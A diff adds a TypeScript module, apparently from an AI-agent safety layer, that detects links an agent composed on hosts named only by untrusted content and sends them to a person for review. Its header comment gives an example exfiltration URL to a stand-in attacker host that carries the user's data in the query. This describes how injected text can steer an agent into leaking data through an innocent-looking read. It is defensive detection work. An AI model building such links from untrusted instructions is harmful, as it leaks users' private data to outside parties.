@@ -1,0 +1,42 @@
+/**
+ * Exfiltration through a read: a link the agent built on a host that only untrusted text named. Reading a page
+ * changes nothing, but a link carries whatever the agent writes into it to that host
+ * (`https://attacker.example/log?d=<the user's data>`), so such a read is judged like a send.
+ */
+import type { PieceProvenance } from "./provenance.js";
+import { urlHost } from "./value-tokens.js";
+
+/** Whether a link carries more than its host: a path other than `/`, a query or a fragment. */
+function carriesData(url: string): boolean {
+  const rest = url.replace(/^[a-z][a-z0-9+.-]*:\/\//i, "");
+  const at = rest.search(/[/?#]/);
+  return at !== -1 && !/^\/*$/.test(rest.slice(at));
+}
+
+function samePath(a: readonly (string | number)[], b: readonly (string | number)[]): boolean {
+  return a.length === b.length && a.every((part, i) => part === b[i]);
+}
+
+/**
+ * The links among `pieces` that nobody supplied (`unknown`: the agent wrote them), that carry a path or a
+ * query, and whose host only untrusted content holds (`tainted`). Each is returned as a tainted `url` piece
+ * with its host's untrusted sources, for the question a person answers.
+ */
+export function builtLinksToUntrustedHosts(pieces: readonly PieceProvenance[]): PieceProvenance[] {
+  const out: PieceProvenance[] = [];
+  for (const link of pieces) {
+    if (link.kind !== "url" || link.status !== "unknown" || !carriesData(link.piece)) continue;
+    const host = urlHost(link.piece);
+    const named = pieces.find(
+      (p) => p.kind === "host" && p.piece === host && p.status === "tainted" && samePath(p.path, link.path),
+    );
+    if (named !== undefined) out.push({ ...named, kind: "url", piece: link.piece });
+  }
+  return out;
+}
+
+/** Whether arguments may hold a link at all (a cheap test before tracing them). */
+export function mayHoldLink(args: Readonly<Record<string, unknown>>): boolean {
+  const text = JSON.stringify(args).toLowerCase();
+  return text.includes("://") || text.includes("www.");
+}
